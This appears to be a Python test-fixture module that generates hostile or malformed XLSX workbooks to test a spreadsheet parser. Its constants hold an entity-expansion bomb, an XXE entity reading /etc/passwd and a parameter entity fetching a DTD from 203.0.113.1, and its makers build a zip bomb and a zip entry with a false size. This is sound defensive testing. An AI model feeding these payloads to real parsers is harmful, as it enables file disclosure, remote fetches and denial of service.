"""Workbooks with something odd about them: makers for the cases."""

from __future__ import annotations

from collections.abc import Callable

from tests.hostile.honest import HEADINGS, MIB, honest, rows
from tests.rawbooks import (
    PACKAGE,
    STRICT,
    Entry,
    book,
    number,
    packed,
    parts,
    repeated,
    row,
    shared,
    sheet,
    text,
    text_row,
)

SHEET1, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "CANARY"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://203.0.113.1/a.dtd"> %a;]>'
CORE = f"{PACKAGE}/metadata/core-properties"


def with_cell(cell: str, strings: str | None = None, at: int = 4) -> Callable[[str], bytes]:
    """The honest rows and one more with ``cell``; CANARY in it stands for the canary."""

    def make(canary: str) -> bytes:
        given = strings.replace("CANARY", canary) if strings is not None else None
        return book(sheet(*rows(canary), row(at, cell.replace("CANARY", canary))), strings=given)

    return make


def with_sheet(make: Callable[[list[str]], str]) -> Callable[[str], bytes]:
    """A workbook whose sheet is made from the honest rows."""
    return lambda canary: book(make(rows(canary)))


def with_part(name: str, body: str) -> Callable[[str], bytes]:
    """The honest workbook with one part more, or another in its place."""
    return lambda canary: packed(parts(sheet(*rows(canary))) | {name: body.replace("CANARY", canary)})


def with_entry(*entries: Entry) -> Callable[[str], bytes]:
    """The honest workbook with more zip entries."""
    return lambda canary: packed(parts(sheet(*rows(canary))), *entries)


def huge_part(name: str, before: str, block: str, times: int, after: str) -> Callable[[str], bytes]:
    """The honest workbook with one part that unpacks to something huge."""

    def make(canary: str) -> bytes:
        made = parts(sheet(*rows(canary)), strings=shared())
        del made[name]
        filling = repeated(before.encode(), block.encode(), times, after.encode())
        return packed(made, Entry(name, **filling))  # type: ignore[arg-type]

    return make


def strict_book(canary: str) -> bytes:
    made = parts(sheet(*rows(canary)))
    for old, new in STRICT.items():
        made = {name: body.replace(old, new) for name, body in made.items()}
    return packed(made)


def lying_size(canary: str) -> bytes:
    body = sheet(*rows(canary)).encode() + b" " * 10 * MIB
    made = parts(sheet())
    del made[SHEET1]
    return packed(made, Entry(SHEET1, body, size=10))


def flipped(canary: str) -> bytes:
    data = bytearray(honest(canary))
    data[data.index(SHEET1.encode()) + len(SHEET1) + 50] ^= 0x10
    return bytes(data)


def unlisted(canary: str) -> bytes:
    made = parts(sheet(*rows(canary)))
    made["xl/workbook.xml"] = made["xl/workbook.xml"].replace('r:id="rId1"', 'r:id="rId9"')
    return packed(made)


def without_part(canary: str) -> bytes:
    made = parts(sheet(*rows(canary)))
    del made[SHEET1]
    return packed(made)


def two_parts_one_sheet(canary: str) -> bytes:
    made = parts(sheet(*rows(canary)), sheet(*rows(canary)))
    links = made["xl/_rels/workbook.xml.rels"]
    made["xl/_rels/workbook.xml.rels"] = links.replace("sheet2.xml", "sheet1.xml")
    return packed(made)


def typed_rows() -> str:
    """Dates, whole numbers and truth values as a spreadsheet stores them."""
    return sheet(
        text_row(1, *HEADINGS),
        row(2, text("M-001", "A2"), text("x", "B2"), number("43831", "C2", 1), number("40", "D2")),
        row(3, text("M-002", "A3"), text("x", "B3"), number("1", "C3", 0, "b"), number("40.5", "D3")),
        row(4, text("M-003", "A4"), text("x", "B4"), number("0.5", "C4", 2), number("1E2", "D4")),
        row(5, text("M-004", "A5"), text("x", "B5"), "", number("#N/A", "D5", 0, "e")),
    )
